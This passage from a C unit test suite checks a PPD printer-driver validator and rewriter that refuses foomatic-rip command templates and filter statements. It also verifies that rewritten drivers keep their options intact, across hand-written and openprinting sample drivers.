	    "driver repeats *CustomRes True (line 8)");
	expect_refused(HDR "*CustomRes True: \"x\"\n*OpenUI *Res: PickOne\n"
	    "*CloseUI: *Res\n*OpenUI *Res: PickOne\n*CloseUI: *Res\n", &pol,
	    "driver opens option *res more than once");
}
END_TEST

START_TEST(bad_policy)
{
	const char *ppd = HDR;
	struct ppd_policy pol = policy();
	char err[256];

	pol.filter_dir = NULL;
	ck_assert_int_eq(check(ppd, strlen(ppd), &pol, err, sizeof(err)), -EINVAL);
	ck_assert_str_eq(err, "no filter folder to check the driver against");
	pol.filter_dir = "";
	ck_assert_int_eq(check(ppd, strlen(ppd), &pol, err, sizeof(err)), -EINVAL);
	ck_assert_int_eq(check(ppd, strlen(ppd), NULL, err, sizeof(err)), -EINVAL);
}
END_TEST

/*
 * A foomatic driver by hand, statement by statement: the rewrite must drop
 * exactly the ones marked, and keep everything else byte for byte.
 */
static const struct piece {
	int drop;
	const char *text;
} foo_driver[] = {
	{ 0, "*PPD-Adobe: \"4.3\"\n" },
	{ 0, "*FormatVersion: \"4.3\"\n*FileVersion: \"1.0\"\n"
	    "*LanguageVersion: English\n*LanguageEncoding: ISOLatin1\n"
	    "*PCFileName: \"TESTFOO.PPD\"\n*Manufacturer: \"Test\"\n"
	    "*Product: \"(Foomatic Test)\"\n*ModelName: \"Test Foomatic\"\n"
	    "*ShortNickName: \"Test Foomatic\"\n*NickName: \"Test Foomatic, 1.0\"\n"
	    "*PSVersion: \"(3010.000) 550\"\n*LanguageLevel: \"3\"\n"
	    "*ColorDevice: False\n*DefaultColorSpace: Gray\n*FileSystem: False\n"
	    "*Throughput: \"10\"\n*LandscapeOrientation: Plus90\n"
	    "*TTRasterizer: Type42\n*FoomaticIDs: Test-Foomatic pxlmono\n" },
	{ 1, "*cupsFilter: \"application/vnd.cups-postscript 100 foomatic-rip\"\n" },
	{ 1, "*cupsFilter: \"application/vnd.cups-pdf 0 foomatic-rip\"\n" },
	{ 1, "*cupsPreFilter: \"application/vnd.cups-postscript 0 psprefilter\"\n" },
	{ 1, "*cupsPortMonitor socket/TBCP: \"tbcp\"\n" },
	{ 1, "*APDialogExtension: \"/Library/Printers/Test/Dialog.plugin\"\n" },
	{ 0, "*% The command line spans three lines.\n" },
	{ 1, "*FoomaticRIPCommandLine: \"gs -q -dBATCH -dPARANOIDSAFER -dNOPAUSE &&\n"
	    "-sDEVICE=pxlmono %A%B&&\n -sOutputFile=- -\"\n*End\n" },
	{ 1, "*FoomaticRIPCommandLinePDF: \"gs -q -sDEVICE=pxlmono %A%B -sOutputFile=- -\"\n" },
	{ 0, "*OpenGroup: General/General\n"
	    "*OpenUI *PageSize/Page Size: PickOne\n"
	    "*OrderDependency: 10 AnySetup *PageSize\n*DefaultPageSize: A4\n"
	    "*PageSize A4/A4: \"<</PageSize[595 842]/ImagingBBox null>>setpagedevice\"\n"
	    "*PageSize Letter/US Letter: \"<</PageSize[612 792]/ImagingBBox null>>"
	    "setpagedevice\"\n*CloseUI: *PageSize\n"
	    "*OpenUI *PageRegion: PickOne\n"
	    "*OrderDependency: 10 AnySetup *PageRegion\n*DefaultPageRegion: A4\n"
	    "*PageRegion A4/A4: \"<</PageSize[595 842]/ImagingBBox null>>setpagedevice\"\n"
	    "*PageRegion Letter/US Letter: \"<</PageSize[612 792]/ImagingBBox null>>"
	    "setpagedevice\"\n*CloseUI: *PageRegion\n"
	    "*DefaultImageableArea: A4\n*ImageableArea A4/A4: \"18 36 577 806\"\n"
	    "*ImageableArea Letter/US Letter: \"18 36 594 756\"\n"
	    "*DefaultPaperDimension: A4\n*PaperDimension A4/A4: \"595 842\"\n"
	    "*PaperDimension Letter/US Letter: \"612 792\"\n"
	    "*OpenUI *InputSlot/Media Source: PickOne\n"
	    "*OrderDependency: 20 AnySetup *InputSlot\n*DefaultInputSlot: Auto\n"
	    "*InputSlot Auto/Automatic: \"\"\n"
	    "*InputSlot Tray1/Tray 1: \"<</MediaPosition 1>>setpagedevice\"\n"
	    "*InputSlot Manual/Manual Feed: \"<</ManualFeed true>>setpagedevice\"\n"
	    "*CloseUI: *InputSlot\n"
	    "*OpenUI *Duplex/Double-Sided Printing: PickOne\n"
	    "*OrderDependency: 30 AnySetup *Duplex\n*DefaultDuplex: None\n"
	    "*Duplex None/Off: \"<</Duplex false>>setpagedevice\"\n"
	    "*Duplex DuplexNoTumble/Long Edge: \"<</Duplex true/Tumble false>>"
	    "setpagedevice\"\n"
	    "*Duplex DuplexTumble/Short Edge: \"<</Duplex true/Tumble true>>"
	    "setpagedevice\"\n*CloseUI: *Duplex\n"
	    "*UIConstraints: *Duplex DuplexNoTumble *InputSlot Manual\n"
	    "*UIConstraints: *InputSlot Manual *Duplex DuplexNoTumble\n"
	    "*CloseGroup: General\n*OpenGroup: Quality/Print Quality\n" },
	{ 1, "*FoomaticRIPOption Resolution: enum CmdLine A\n" },
	{ 0, "*OpenUI *Resolution/Resolution: PickOne\n"
	    "*OrderDependency: 100 AnySetup *Resolution\n*DefaultResolution: 600dpi\n"
	    "*Resolution 300dpi/300 dpi: \"%% FoomaticRIPOptionSetting: "
	    "Resolution=300dpi\"\n" },
	{ 1, "*FoomaticRIPOptionSetting Resolution=300dpi: \" -r300\"\n" },
	{ 0, "*Resolution 600dpi/600 dpi: \"%% FoomaticRIPOptionSetting: "
	    "Resolution=600dpi\"\n" },
	{ 1, "*FoomaticRIPOptionSetting Resolution=600dpi: \"&&\n"
	    " -r600 -dDITHERPPI=106\"\n*End\n" },
	{ 0, "*fr.Translation Resolution/Resolution: \"\"\n"
	    "*fr.Resolution 600dpi/600 ppp: \"\"\n*CloseUI: *Resolution\n" },
	{ 1, "*FoomaticRIPOption Watermark: string CmdLine B\n" },
	{ 1, "*FoomaticRIPOptionPrototype Watermark: \" -sWatermark=%s\"\n" },
	{ 1, "*FoomaticRIPOptionMaxLength Watermark: 32\n" },
	{ 1, "*FoomaticRIPOptionAllowedChars Watermark: \"A-Za-z0-9 \"\n" },
	{ 0, "*OpenUI *Watermark/Watermark: PickOne\n"
	    "*OrderDependency: 110 AnySetup *Watermark\n*DefaultWatermark: None\n"
	    "*Watermark None/None: \"%% FoomaticRIPOptionSetting: Watermark=None\"\n"
	    "*CustomWatermark True/Custom: \"\"\n"
	    "*ParamCustomWatermark Text/Text: 1 string 0 32\n"
	    "*CloseUI: *Watermark\n" },
	{ 1, "*FoomaticRIPDefaultWatermark: None\n" },
	{ 0, "*CloseGroup: Quality\n*% End of the test driver\n" },
};

/* The driver, and what the rewrite must make of it, with LF line ends. */
static void
foo_texts(char **in, char **want)
{
	size_t n = 0;

	for (size_t i = 0; i < sizeof(foo_driver) / sizeof(foo_driver[0]); i++)
		n += strlen(foo_driver[i].text);
	*in = calloc(1, n + 1);
	*want = calloc(1, n + sizeof(REWRITE_HDR));
	ck_assert_ptr_nonnull(*in);
	ck_assert_ptr_nonnull(*want);
	for (size_t i = 0; i < sizeof(foo_driver) / sizeof(foo_driver[0]); i++) {
		strcat(*in, foo_driver[i].text);
		if (!foo_driver[i].drop)
			strcat(*want, foo_driver[i].text);
		if (i == 0)
			strcat(*want, REWRITE_HDR);
	}
}

/* libcups' parse of a PPD in memory, as cupsd would read it from a file. */
static ppd_file_t *
open_ppd(const char *ppd, size_t len)
{
	int fd = memfd_create("ppd", MFD_CLOEXEC), line = 0;
	cups_file_t *cf;
	ppd_file_t *p;

	ck_assert_int_ge(fd, 0);
	ck_assert_int_eq(write(fd, ppd, len), (ssize_t)len);
	ck_assert_int_eq(lseek(fd, 0, SEEK_SET), 0);
	ck_assert_ptr_nonnull(cf = cupsFileOpenFd(fd, "r"));
	ppdSetConformance(PPD_CONFORM_RELAXED);
	p = ppdOpen2(cf);
	cupsFileClose(cf);		/* closes fd */
	ck_assert_msg(p != NULL, "libcups does not parse it: %s on line %d",
	    ppdErrorString(ppdLastError(&line)), line);
	return p;
}

/*
 * The options and choices libcups makes of a PPD: their counts, and in
 * *names the names in libcups' order with the defaults and the number of
 * UI constraints, as "option=default:choice,choice;... N constraints".
 */
static void
ppd_options(const char *ppd, size_t len, int *nopt, int *nchoice, char **names)
{
	ppd_file_t *p = open_ppd(ppd, len);
	size_t cap = 4096, o = 0;
	char *buf = malloc(cap);

	ck_assert_ptr_nonnull(buf);
	buf[0] = '\0';
	*nopt = *nchoice = 0;
	for (ppd_option_t *opt = ppdFirstOption(p); opt != NULL;
	    opt = ppdNextOption(p)) {
		(*nopt)++;
		*nchoice += opt->num_choices;
		for (int c = -2; c < opt->num_choices; c++) {
			const char *name = c == -2 ? opt->keyword : c == -1 ?
			    opt->defchoice : opt->choices[c].choice;

			while (o + strlen(name) + 2 >= cap)
				ck_assert_ptr_nonnull(buf = realloc(buf, cap *= 2));
			o += (size_t)sprintf(buf + o, "%s%c", name, c == -2 ? '=' :
			    c == -1 ? ':' : c + 1 < opt->num_choices ? ',' : ';');
		}
	}
	while (o + 32 >= cap)
		ck_assert_ptr_nonnull(buf = realloc(buf, cap *= 2));
	sprintf(buf + o, "%d constraints", p->num_consts);
	ppdClose(p);
	*names = buf;
}

/* Asserts that both PPDs have the same options and choices for libcups. */
static void
expect_same_options(const char *a, size_t alen, const char *b, size_t blen,
    int want_opt, int want_choice, const char *what)
{
	int aopt, achoice, bopt, bchoice;
	char *anames, *bnames;

	ppd_options(a, alen, &aopt, &achoice, &anames);
	ppd_options(b, blen, &bopt, &bchoice, &bnames);
	ck_assert_msg(aopt == bopt && achoice == bchoice, "%s: %d options with %d "
	    "choices before, %d with %d after", what, aopt, achoice, bopt, bchoice);
	ck_assert_msg(strcmp(anames, bnames) == 0, "%s: options were \"%.200s\", "
	    "are \"%.200s\"", what, anames, bnames);
	if (want_opt >= 0) {
		ck_assert_int_eq(aopt, want_opt);
		ck_assert_int_eq(achoice, want_choice);
	}
	free(anames);
	free(bnames);
}

/* The policy of a guest with no filters. */
static struct ppd_policy
no_filter_policy(void)
{
	static char dir[512];
	struct ppd_policy pol = { 16 << 20, dir, NULL };

	snprintf(dir, sizeof(dir), "%s/empty-filter", runner_tmpdir());
	if (access(dir, F_OK) != 0)
		ck_assert_int_eq(mkdir(dir, 0755), 0);
	return pol;
}

/* What every rewritten driver must be: parsed, safe, and free of programs. */
static void
expect_pdf_only(const char *out, size_t outlen, const char *what)
{
	static const struct {
		const char *kw;
		int prefix, count;
	} want[] = {
		{ "cupsFilter2", 0, 1 }, { "cupsManualCopies", 0, 1 },
		{ "cupsFilter", 0, 0 }, { "cupsPreFilter", 0, 0 },
		{ "cupsPortMonitor", 0, 0 }, { "FoomaticRIP", 1, 0 },
		{ "APDialogExtension", 0, 0 },
	};
	struct ppd_policy pol = no_filter_policy();
	char err[512] = "";

	/* The check parses it with libcups, and refuses any command
	 * template. */
	ck_assert_msg(ppd_check_safe(out, outlen, &pol, err, sizeof(err)) == 0,
	    "%s rewritten is refused: %s", what, err);
	for (size_t i = 0; i < sizeof(want) / sizeof(want[0]); i++) {
		int n = count_statements(out, outlen, want[i].kw, want[i].prefix);

		ck_assert_msg(n == want[i].count, "%s rewritten has %d *%s%s, not %d",
		    what, n, want[i].kw, want[i].prefix ? "..." : "", want[i].count);
	}
}

/* ck_assert_str_eq() cannot report texts this long. */
static void
expect_text(const char *got, const char *want)
{
	size_t i = 0;

	while (got[i] != '\0' && got[i] == want[i])
		i++;
	ck_assert_msg(got[i] == want[i], "text differs at byte %zu: got \"%.60s\", "
	    "want \"%.60s\"", i, got + i, want + i);
}

START_TEST(rewrite_pdf_foomatic)
{
	struct ppd_policy pol = no_filter_policy(), filters = policy();
	char *in, *want, *out, err[512];
	size_t outlen;

	foo_texts(&in, &want);
	/* The driver as it is wants foomatic-rip and its templates. */
	ck_assert_int_eq(ppd_check_safe(in, strlen(in), &pol, err, sizeof(err)),
	    -EPERM);
	ck_assert_msg(strstr(err, "filter \"foomatic-rip\"") != NULL, "%s", err);
	ck_assert_int_eq(count_statements(in, strlen(in), "FoomaticRIP", 1), 10);
	out = rewrite_ok(in, strlen(in), &outlen);
	expect_text(out, want);
	expect_pdf_only(out, outlen, "hand-written");
	ck_assert_int_eq(ppd_check_parse(out, outlen, NULL, 0, err, sizeof(err)), 0);
	/* Where foomatic-rip is installed, it passes too. */
	expect_ok_len(out, outlen, &filters);
	/* PageSize 2, PageRegion 2, InputSlot 3, Duplex 3, Resolution 2 and
	 * Watermark 1 (libcups keeps its custom value apart). */
	expect_same_options(in, strlen(in), out, outlen, 6, 13, "hand-written");
	free(in);
	free(want);
	free(out);
}
END_TEST

START_TEST(rewrite_pdf_crlf)
{
	char *in, *want, *crlf_in, *crlf_want, *out;
	size_t outlen;

	foo_texts(&in, &want);
	crlf_in = to_crlf(in);
	crlf_want = to_crlf(want);
	/* The added lines end as the driver's lines do. */
	out = rewrite_ok(crlf_in, strlen(crlf_in), &outlen);
	expect_text(out, crlf_want);
	expect_pdf_only(out, outlen, "CRLF");
	expect_same_options(crlf_in, strlen(crlf_in), out, outlen, 6, 13, "CRLF");
	free(out);
	/* A first line without a line end gets one before the added lines. */
	out = rewrite_ok("*PPD-Adobe: \"4.3\"", 17, &outlen);
	ck_assert_str_eq(out, "*PPD-Adobe: \"4.3\"\n" REWRITE_HDR);
	free(out);
	free(in);
	free(want);
	free(crlf_in);
	free(crlf_want);
}
END_TEST

START_TEST(rewrite_pdf_manual_copies)
{
	const char *in = HDR "*cupsManualCopies: True\n"
	    "*cupsFilter2: \"application/vnd.cups-postscript application/"
	    "vnd.cups-pdf 0 pstopdf\"\n*OpenUI *Duplex: PickOne\n"
	    "*DefaultDuplex: None\n*Duplex None/Off: \"\"\n*CloseUI: *Duplex\n";
	ppd_file_t *p;
	char *out;
	size_t outlen;

	p = open_ppd(in, strlen(in));
	ck_assert_int_eq(p->manual_copies, 1);
	ppdClose(p);
	out = rewrite_ok(in, strlen(in), &outlen);
	expect_text(out, "*PPD-Adobe: \"4.3\"\n" REWRITE_HDR
	    "*FormatVersion: \"4.3\"\n*LanguageVersion: English\n"
	    "*NickName: \"Test\"\n*OpenUI *Duplex: PickOne\n"
	    "*DefaultDuplex: None\n*Duplex None/Off: \"\"\n*CloseUI: *Duplex\n");
	expect_pdf_only(out, outlen, "manual copies");
	expect_same_options(in, strlen(in), out, outlen, 1, 1, "manual copies");
	/* libcups, and so cupsd, reads the new value. */
	p = open_ppd(out, outlen);
	ck_assert_int_eq(p->manual_copies, 0);
	ppdClose(p);
	free(out);
}
END_TEST

/* Asserts that the rewrite refuses ppd with rc and a reason holding word. */
static void
expect_no_rewrite(const char *ppd, size_t len, size_t max_out, int rc,
    const char *word)
{
	char err[512] = "", *out = (char *)1;
	size_t outlen = 1;

	ck_assert_int_eq(ppd_rewrite_pdf(ppd, len, max_out, &out, &outlen, err,
	    sizeof(err)), rc);
	ck_assert_ptr_null(out);
	ck_assert_uint_eq(outlen, 0);
	ck_assert_msg(strstr(err, word) != NULL, "reason \"%s\" lacks \"%s\"",
	    err, word);
}

START_TEST(rewrite_pdf_garbage)
{
	static const char junk[] = {
		0x7f, 'E', 'L', 'F', 0x02, 0x01, 0x01, 0x00, (char)0xff, '\n'
	};

	expect_no_rewrite("", 0, SIZE_MAX, -EBADMSG, "empty");
	expect_no_rewrite("hello, world\n", 13, SIZE_MAX, -EBADMSG,
	    "line 1 is not *PPD-Adobe");
	expect_no_rewrite(junk, sizeof(junk), SIZE_MAX, -EBADMSG,
	    "control character 0x02");
	expect_no_rewrite("\x1f\x8b\x08\x00", 4, SIZE_MAX, -EBADMSG, "gzip");
	/* The PPD-Adobe line must come first, and not after a comment. */
	expect_no_rewrite("*NickName: \"x\"\n*PPD-Adobe: \"4.3\"\n", 33, SIZE_MAX,
	    -EBADMSG, "not *PPD-Adobe");
	expect_no_rewrite("*% x\n*PPD-Adobe: \"4.3\"\n", 23, SIZE_MAX, -EBADMSG,
	    "not *PPD-Adobe");
	/* What the check's line reader refuses, the rewrite refuses too. */
	expect_no_rewrite(HDR "*% x\r*cupsFilter: \"application/pdf 0 x\"\n",
	    strlen(HDR) + 40, SIZE_MAX, -EBADMSG, "carriage return");
	expect_no_rewrite(HDR "*%APLWORKSET START\n", strlen(HDR) + 19, SIZE_MAX,
	    -EBADMSG, "APLWORKSET");
}
END_TEST

START_TEST(rewrite_pdf_size_cap)
{
	const char *in = HDR FOOMATIC_FILTER;
	char *out, *again, err[256];
	size_t outlen, len;

	out = rewrite_ok(in, strlen(in), &outlen);
	ck_assert_int_eq(ppd_rewrite_pdf(in, strlen(in), outlen, &again, &len, err,
	    sizeof(err)), 0);
	ck_assert_str_eq(again, out);
	expect_no_rewrite(in, strlen(in), outlen - 1, -EFBIG, "over the cap");
	free(out);
	free(again);
}
END_TEST

/*
 * Prints a deterministic sample of openprinting-ppds' drivers: of those up
 * to 128 KiB (three quarters of them), about 200 spread evenly over the
 * archive, each as "LENGTH NAME\n" and the bytes.  Larger ones are left out
 * because libcups grows its constraint table one entry at a time: under
 * the sanitizers, each such copy is fresh memory, and a 450 KB Ricoh driver
 * takes ten seconds to parse.  The package's /usr/share/ppd holds only
 * empty placeholders: the drivers are an xz archive inside the driver
 * program, whose "cat" unpacks it once per driver (over a second each);
 * this unpacks it once.
 */
static const char sample_py[] =
    "import base64, lzma, sys, types\n"
    "from importlib.machinery import SourceFileLoader\n"
    "m = types.ModuleType('ppds')\n"
    "SourceFileLoader('ppds', sys.argv[1]).exec_module(m)\n"
    "index = m.load()\n"
    "archive = base64.b64decode(index.pop('ARCHIVE'))\n"
    "files = sorted((v[0], v[1], k) for k, v in index.items()\n"
    "               if v[1] <= int(sys.argv[3]))\n"
    "files = files[::max(1, len(files) // int(sys.argv[2]))]\n"
    "d, base, buf = lzma.LZMADecompressor(), 0, b''\n"
    "for start, length, name in files:\n"
    "    while base + len(buf) < start + length:\n"
    "        chunk = d.decompress(archive, 1 << 24)\n"
    "        archive = b''\n"
    "        if not chunk:\n"
    "            sys.exit('archive ends early')\n"
    "        cut = min(max(start - base, 0), len(buf))\n"
    "        buf, base = buf[cut:] + chunk, base + cut\n"
    "    ppd = buf[start - base:start - base + length]\n"
    "    sys.stdout.buffer.write(b'%d %s\\n' % (len(ppd), name.encode()) + ppd)\n";

START_TEST(rewrite_pdf_openprinting)
{
	struct ppd_policy pol = no_filter_policy(), filters = policy();
	char script[600], cmd[1400], line[600], err[512], nick[256], parsed[256];
	int total = 0, foomatic = 0;
	FILE *f, *p;

	snprintf(script, sizeof(script), "%s/sample.py", runner_tmpdir());
	ck_assert_ptr_nonnull(f = fopen(script, "w"));
	ck_assert_int_ge(fputs(sample_py, f), 0);
	ck_assert_int_eq(fclose(f), 0);
	snprintf(cmd, sizeof(cmd), "python3 '%s' '%s' 200 131072", script, DRIVER);
	ck_assert_ptr_nonnull(p = popen(cmd, "r"));
	while (fgets(line, sizeof(line), p) != NULL) {
		size_t len = strtoul(line, NULL, 10), outlen;
		char *ppd = malloc(len + 1), *out, *name = strchr(line, ' ');

		ck_assert_ptr_nonnull(ppd);
		ck_assert_ptr_nonnull(name);
		name[strcspn(name, "\n")] = '\0';
		ck_assert_uint_eq(fread(ppd, 1, len, p), len);
		ppd[len] = '\0';
		if (strstr(ppd, "FoomaticRIPCommandLine") != NULL) {
			/* Without the rewrite, the guest would need foomatic-rip,
			 * and with it, the templates are refused. */
			ck_assert_msg(ppd_check_safe(ppd, len, &pol, err,
			    sizeof(err)) == -EPERM, "%s passes as it is", name);
			ck_assert_msg(ppd_check_safe(ppd, len, &filters, err,
			    sizeof(err)) == -EPERM, "%s passes with foomatic-rip",
			    name);
			ck_assert_msg(strncmp(err, "command template *", 18) == 0,
			    "%s is refused for another reason: %s", name, err);
			foomatic++;
		}
		ck_assert_msg(ppd_rewrite_pdf(ppd, len, SIZE_MAX, &out, &outlen, err,
		    sizeof(err)) == 0, "%s: %s", name, err);
		/* The agent's one check of it, with the name cupsd will show. */
		ck_assert_msg(ppd_check_safe_nick(out, outlen, &filters, nick,
		    sizeof(nick), err, sizeof(err)) == 0, "%s: %s", name, err);
		ck_assert_msg(ppd_check_parse(out, outlen, parsed, sizeof(parsed), err,
		    sizeof(err)) == 0 && strcmp(nick, parsed) == 0,
		    "%s: \"%s\" is not \"%s\"", name, nick, parsed);
		expect_pdf_only(out, outlen, name);
		expect_same_options(ppd, len, out, outlen, -1, -1, name);
		free(ppd);
		free(out);
		total++;
	}
	ck_assert_int_eq(pclose(p), 0);
	ck_assert_msg(total >= 200, "only %d drivers", total);
	ck_assert_msg(foomatic >= 50, "only %d foomatic drivers", foomatic);
}
END_TEST

Suite *
test_suite(void)
{
	Suite *s = suite_create("ppd");
	TCase *tc = tcase_create("ppd");

	if (access(DRIVER, X_OK) != 0)
		runner_skip("openprinting-ppds is not installed");
	if (access(GENERIC_PDF, R_OK) != 0 || access(FILTER_DIR "/foomatic-rip", X_OK) != 0)
		runner_skip("cups-filters is not installed");
	if ((foomatic_ppd = driver_cat(FOOMATIC_URI, &foomatic_len)) == NULL ||
	    (postscript_ppd = driver_cat(POSTSCRIPT_URI, &postscript_len)) == NULL)
		runner_skip("openprinting-ppds lacks the Ricoh SP 212w or Brother "
		    "HL-5250DN driver");
	tcase_add_test(tc, generic_pdf_printer_passes);
	tcase_add_test(tc, check_gives_the_nickname);
	tcase_add_test(tc, defaults_into_the_ppd);
	tcase_add_test(tc, distribution_ppds_pass);
	tcase_add_test(tc, bounds_and_nickname);
	tcase_add_test(tc, foomatic_ppd_is_refused);
	tcase_add_test(tc, filter_not_installed);
	tcase_add_test(tc, filter_outside_the_filter_folder);
	tcase_add_test(tc, symlink_escape);
	tcase_add_test(tc, command_template_injection);
	tcase_add_test(tc, templates_refused_whatever_they_hold);
	tcase_add_test(tc, multi_line_command_line);
	tcase_add_test(tc, cmdline_option_code_is_a_template);
	tcase_add_test(tc, prefilter_missing);
	tcase_add_test(tc, port_monitor);
	tcase_add_test(tc, garbage_and_empty);
	tcase_add_test(tc, size_cap);
	tcase_add_test(tc, binary_bytes);
	tcase_add_test(tc, readers_must_agree);
	tcase_add_test(tc, repeated_keywords);
	tcase_add_test(tc, bad_policy);
	tcase_add_test(tc, rewrite_pdf_foomatic);
	tcase_add_test(tc, rewrite_pdf_crlf);
	tcase_add_test(tc, rewrite_pdf_manual_copies);
	tcase_add_test(tc, rewrite_pdf_garbage);
	tcase_add_test(tc, rewrite_pdf_size_cap);
	suite_add_tcase(s, tc);
	/* One python3 unpacks the driver archive, then some 200 drivers are
	 * parsed three or four times each: 5 s, 20 s under the sanitizers. */
	tc = tcase_create("openprinting");
	tcase_set_timeout(tc, 60);
	tcase_add_test(tc, rewrite_pdf_openprinting);
	suite_add_tcase(s, tc);
	return s;
}
